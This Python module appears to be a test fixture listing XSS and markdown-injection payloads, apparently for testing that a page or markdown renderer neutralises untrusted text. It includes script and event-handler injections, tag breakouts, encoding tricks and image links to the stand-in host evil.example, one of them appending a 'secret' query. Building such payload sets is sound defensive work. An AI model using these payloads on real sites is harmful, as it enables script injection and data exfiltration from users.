# ruff: noqa: E501 - payloads are easier to read side by side
"""Text that would do something if a page obeyed it: run a script, fetch a picture, make a link, leave its element.

Every payload that fetches names the host ``evil.example``; every script calls ``pwned()``.
"""

from __future__ import annotations

import itertools

_SCRIPTS = (
    "<script>pwned()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<img src=x onerror=pwned()>", "<img src=//evil.example/i.png>", "<IMG SRC=`javascript:pwned()`>", "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>", "<svg><image href=//evil.example/s.svg /></svg>", "<body onload=pwned()>",
    "<iframe src=//evil.example></iframe>", "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "<object data=//evil.example/o></object>", "<embed src=//evil.example/e>", "<link rel=stylesheet href=//evil.example/c.css>",
    "<link rel=prefetch href=//evil.example/p>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", "<style>@import url(//evil.example/i.css);</style>",
    "<div style='background:url(//evil.example/b.png)'>x</div>", "<video src=//evil.example/v autoplay></video>",
    "<audio src=//evil.example/a autoplay></audio>", "<input autofocus onfocus=pwned()>", "<details open ontoggle=pwned()>x</details>",
    "<form action=//evil.example><button>x</button></form>", "<a href=//evil.example/l>x</a>", "<a href='javascript:pwned()'>x</a>",
    "<marquee onstart=pwned()>", "<math><mtext><img src=x onerror=pwned()></mtext></math>", "<noscript><img src=//evil.example/n></noscript>",
    "<template><script>pwned()</script></template>", "<portal src=//evil.example></portal>", "<img srcset='//evil.example/q 1x'>",
    "<picture><source srcset=//evil.example/r><img></picture>", "<table background=//evil.example/t>", "<bgsound src=//evil.example/g>",
    "'\"><img src=//evil.example/k>", "\"onmouseover=\"pwned()", "' onfocus='pwned()' autofocus='", "</span><script>pwned()</script>",
    "</div></div><img src=//evil.example/d>", "</textarea><script>pwned()</script>", "</title><script>pwned()</script>",
    "</style><script>pwned()</script>", "--><script>pwned()</script>", "]]><script>pwned()</script>", "<!--><img src=//evil.example/m>-->",
    "&lt;img src=//evil.example/e1&gt;", "&#60;script&#62;pwned()&#60;/script&#62;", "\\x3cscript\\x3epwned()\\x3c/script\\x3e",
    "\u003cimg src=//evil.example/u\u003e", "＜script＞pwned()＜/script＞", "<img\u200bsrc=//evil.example/z>", "<\x00script>pwned()</script>",
    "<img src=x\x0conerror=pwned()>", "<img/src=//evil.example/s1/onerror=pwned()>", "<<img src=//evil.example/dd>>",
    "javascript:pwned()", "data:text/html,<script>pwned()</script>", "vbscript:pwned()",
)  # fmt: skip
_MARKDOWN = (
    "![x](http://evil.example/m.png)", "![x](//evil.example/m.png)", "![](https://evil.example/m?q=secret)", "![x][r]\n\n[r]: http://evil.example/ref.png",
    "[![x](http://evil.example/n.png)](http://evil.example)", "[x](http://evil.example)", "[x](javascript:pwned())", "[x][r]\n\n[r]: http://evil.example",
    "<http://evil.example/auto>", "http://evil.example/bare", "https://evil.example/bare?q=x", "www.evil.example", "x@evil.example", "mailto:x@evil.example",
    "xmpp:x@evil.example", "ftp://evil.example/x", "![x](<http://evil.example/angle>)", "![x](http://evil.example/t \"title\")", "!\\[x](http://evil.example/esc.png)",
    "![x]\\(http://evil.example/esc2.png)", "![a](http://evil.example/1)![b](http://evil.example/2)", "> ![x](http://evil.example/quote.png)",
    "- ![x](http://evil.example/list.png)", "# ![x](http://evil.example/head.png)", "| ![x](http://evil.example/cell.png) |\n| --- |", "[^1]\n\n[^1]: ![x](http://evil.example/f.png)",
    "```\n![x](http://evil.example/fence.png)\n```", "`![x](http://evil.example/code.png)`", "~~![x](http://evil.example/del.png)~~", "**![x](http://evil.example/b.png)**",
    "$\\href{javascript:pwned()}{x}$", "$$\\includegraphics{http://evil.example/k.png}$$", "$\\url{http://evil.example/kurl}$", "$\\htmlData{x=1}{y}$",
    ":material/delete:", ":red[x]", ":blue-background[x]", ":smile:", ":red[![x](http://evil.example/colour.png)]", ":streamlit:", ":small[x]", ":rainbow[x]",
    "![x](http://evil.example/中文.png)", "！[x](http://evil.example/full.png)", "![书](http://evil.example/%E4%B9%A6)", "【链接】(http://evil.example/zh)", "［x］（http://evil.example/full2）",
    "http:\\/\\/evil.example/slash", "hxxp://evil.example", "http\u200b://evil.example/zw", "![x](http://evil\u2024example/dot)", "//evil.example/rel", "\\![x](http://evil.example/bs.png)",
    "\\\\![x](http://evil.example/bs2.png)", "<img src='http://evil.example/mix.png'> ![x](http://evil.example/mix2.png)", "[1](http://evil.example/cite)", "[1]: http://evil.example/define",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(itertools.chain(_SCRIPTS, _MARKDOWN)))
